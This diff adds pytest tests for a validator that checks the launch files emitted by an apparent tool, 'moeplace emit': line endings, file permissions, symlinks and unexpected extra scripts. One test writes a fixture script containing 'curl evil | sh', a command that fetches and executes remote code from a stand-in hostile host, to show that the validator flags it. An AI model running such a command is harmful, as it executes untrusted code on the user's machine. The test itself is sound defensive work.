@@ -133,3 +133,44 @@ def test_manifest_buffer_edit_names_the_options(emitted):
     edit(emitted / "manifest.json", '"micro_batches": 2', '"micro_batches": 3')
     assert check_dir(emitted).problems == (
         "manifest.json: buffers.micro_batches is 3, plan.json with the options in artifacts.json gives 2",)
+
+
+@pytest.mark.parametrize("name", ["hostfile", "rankfile.tsv", "hostfile.deepspeed", "job.sbatch", "torchrun.sh"])
+def test_crlf_line_endings_are_named_with_the_line(name, emitted):
+    path = emitted / name
+    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
+    problems = check_dir(emitted).problems
+    assert f"{name}: line 1 ends in CR (Windows line endings: convert with dos2unix or emit again)" in problems
+
+
+def test_a_script_without_its_run_bits_is_a_problem(emitted):
+    (emitted / "torchrun.sh").chmod(0o644)
+    assert check_dir(emitted).problems == (
+        "torchrun.sh: not executable by everyone (mode 0644; emit writes 0755): chmod 755 torchrun.sh",)
+
+
+def test_world_writable_files_and_directory_are_problems(emitted):
+    (emitted / "hostfile").chmod(0o666)
+    emitted.chmod(0o777)
+    assert check_dir(emitted).problems == (
+        "hostfile: writable by every user (mode 0666): anyone could change what the job runs",
+        ".: the directory is writable by every user (mode 0777)")
+
+
+def test_a_symlinked_hostfile_is_a_problem(emitted, tmp_path):
+    real = tmp_path / "elsewhere"
+    real.write_text((emitted / "hostfile").read_text())
+    (emitted / "hostfile").unlink()
+    (emitted / "hostfile").symlink_to(real)
+    assert check_dir(emitted).problems == (
+        f"hostfile: is a symbolic link (to {real}); emit writes plain files",)
+
+
+def test_an_extra_script_is_a_problem_but_run_outputs_are_not(emitted):
+    (emitted / "runs" / "slurm-1").mkdir(parents=True)
+    (emitted / "runs" / "slurm-1" / "rank0.json").write_text("{}\n")
+    (emitted / "run.json").write_text("{}\n")
+    assert check_dir(emitted).ok
+    (emitted / "extra.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
+    assert check_dir(emitted).problems == (
+        "extra.sh: not written by moeplace emit (remove it, or emit into a clean directory)",)
